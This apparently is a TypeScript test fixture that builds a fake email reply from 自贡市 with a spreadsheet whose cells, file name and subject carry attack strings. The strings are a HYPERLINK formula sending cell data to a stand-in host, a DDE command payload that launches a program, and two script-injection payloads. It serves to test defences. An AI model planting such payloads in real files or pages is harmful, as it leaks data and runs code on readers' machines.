import { SICHUAN_UNITS } from '../../src/vocabularies/sichuan-units.ts';
import { type Hospital, inventProvince } from '../support/samples/invent-province.ts';
import { changed, numbered, reply, table, workbook } from '../support/samples/nasty-tools.ts';

/** Texts that a spreadsheet program, a browser or a mail program would run, were they let. */
export const ATTACKS = {
  formula: '=HYPERLINK("http://evil.test/"&A1,"医院")',
  command: "+cmd|'/C calc'!A0",
  markup: '<img src=x onerror=alert(1)>测试医院',
  breakOut: '"><script>alert(2)</script>',
} as const;

/** A mail of 自贡市 whose cells attack the reader of every deliverable. */
export function hostileReply(): { readonly name: string; readonly bytes: Uint8Array } {
  const unit = inventProvince(SICHUAN_UNITS).find(({ short }) => short === '自贡市');
  if (!unit) throw new Error('the sample province has no 自贡市');
  const changes: Partial<Hospital>[] = [
    { name: ATTACKS.formula, dataManagerName: ATTACKS.breakOut },
    { name: ATTACKS.markup, dataManagerEmail: ATTACKS.command },
    { dataManagerName: ATTACKS.formula, grade: ATTACKS.markup },
  ];
  let hospitals = unit.hospitals.slice(0, 3);
  for (const [index, change] of changes.entries()) hospitals = changed(hospitals, index, change);
  return reply(unit, [workbook([table(numbered(hospitals))], `${ATTACKS.markup}.xlsx`)], {
    subject: `自贡市报送${ATTACKS.breakOut}`,
    fromName: ATTACKS.markup,
  });
}
